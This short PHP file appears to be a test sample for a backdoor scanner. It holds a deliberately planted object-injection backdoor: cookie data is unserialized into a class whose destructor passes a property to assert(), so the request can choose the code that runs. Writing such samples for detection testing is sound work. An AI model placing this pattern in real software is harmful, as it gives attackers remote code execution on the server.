<?php
// spamgear test sample: a class whose destructor runs one of its properties,
// and request data unserialized into an object of it: the request chooses
// the code (PHP object injection as a backdoor).
class Cache_Entry
{
    public $hook = '';

    public function __destruct()
    {
        if ($this->hook !== '') {
            assert($this->hook);
        }
    }
}
$entry = unserialize(base64_decode($_COOKIE['entry']));
